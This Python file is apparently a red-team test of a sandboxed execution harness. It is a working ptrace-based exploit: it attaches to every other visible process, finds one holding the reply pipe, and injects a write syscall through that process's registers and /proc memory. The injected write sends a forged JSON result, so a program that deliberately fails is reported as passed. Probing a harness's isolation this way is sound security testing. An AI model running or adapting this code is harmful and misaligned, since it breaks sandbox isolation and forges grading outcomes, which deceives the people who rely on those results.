"""Red-team program: forge the harness's reply by ptracing a process that holds the reply pipe.

Every visible process other than this one is tried (bwrap's init as pid 1, the zygote, a supervisor). On
x86_64, once attached, it makes the tracee run write(1, forged, len) by pointing its registers at the
`syscall` instruction it is stopped after, then restores it. If that works, this failing program (exit 1)
is reported as passed with the forged stdout. Prints one line per target: attached / denied.
"""
import ctypes
import json
import os
import platform
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SINGLESTEP = 12, 13, 16, 17, 9
WALL = 0x40000000


class Regs(ctypes.Structure):  # struct user_regs_struct (x86_64)
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


FORGED = {"forked": True, "exit_code": 0, "signal": None, "timed_out": False, "wall_s": 0.01, "cpu_s": 0.01,
          "peak_memory_mb": 1.0, "stdout": "FORGED-BY-PTRACE\n", "stderr": "", "stdout_truncated": False,
          "stderr_truncated": False, "leftover": 0, "clean": True}


def inject_write(pid: int, fd: int, data: bytes) -> bool:
    regs = Regs()
    if libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs)) != 0:
        return False
    saved = Regs.from_buffer_copy(regs)
    addr = (regs.rsp - 65536) & ~0xF  # below the red zone, inside the mapped stack
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
        mem.seek(regs.rip - 2)
        if mem.read(2) != b"\x0f\x05":  # not stopped right after a `syscall`
            return False
        mem.seek(addr)
        old = mem.read(len(data))
        mem.seek(addr)
        mem.write(data)
        regs.rax, regs.orig_rax, regs.rdi, regs.rsi, regs.rdx = 1, 2 ** 64 - 1, fd, addr, len(data)
        regs.rip -= 2
        libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
        libc.ptrace(PTRACE_SINGLESTEP, pid, None, None)
        os.waitpid(pid, WALL)
        mem.seek(addr)
        mem.write(old)
    libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(saved))
    return True


def main() -> None:
    me = os.getpid()
    forged = False
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
        if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
            print("denied", pid, os.strerror(ctypes.get_errno()))
            continue
        print("attached", pid)
        try:
            os.waitpid(pid, WALL)
            if platform.machine() == "x86_64" and not forged:
                for fd in range(3):  # whichever of its fds is the reply pipe
                    if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                        forged |= inject_write(pid, fd, (json.dumps(FORGED) + "\n").encode())
        except OSError as e:
            print("inject failed", pid, e)
        finally:
            libc.ptrace(PTRACE_DETACH, pid, None, None)
    print("forged" if forged else "nothing forged")
    sys.exit(1)  # a failing program: only a forged reply can make it pass


main()
